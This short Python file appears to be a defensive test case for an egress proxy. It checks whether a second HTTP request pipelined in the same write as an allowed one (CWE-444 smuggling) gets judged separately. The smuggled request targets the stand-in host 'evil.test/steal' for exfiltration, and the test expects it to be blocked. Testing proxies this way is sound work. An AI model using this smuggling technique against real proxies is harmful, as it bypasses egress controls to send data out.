"""The second request to the proxy, in the same write as the first.

At a proxy each request may go to another host. The second waits in the buffer while the first is
judged; a proxy that hands the buffer on with the first has not judged it.

Not covered: more than two requests, which go the same way.
"""

ATTACK = {
    "title": "Second request in one write, through the proxy",
    "group": "http",
    "layer": "gateway",
    "risk": "exfiltration",
    "references": ["CWE-444", "R062", "RFC 9112 section 9.3.2"],
    "arrives": [{"what": "request", "name": "evil.test"}, {"what": "question", "name": "evil.test"}],
    "stopped": [{"reason": ["not-listed"], "entry": ["http-proxy"], "where": {"name": "evil.test"}}],
}


def attempt(kit):
    first = "GET http://allowed.test/ HTTP/1.1\r\nHost: allowed.test\r\n\r\n"
    second = kit.get("http://evil.test/steal", "evil.test")
    kit.talk("allowed.test", 80, first + second, entry="http-proxy", tunnel=False)
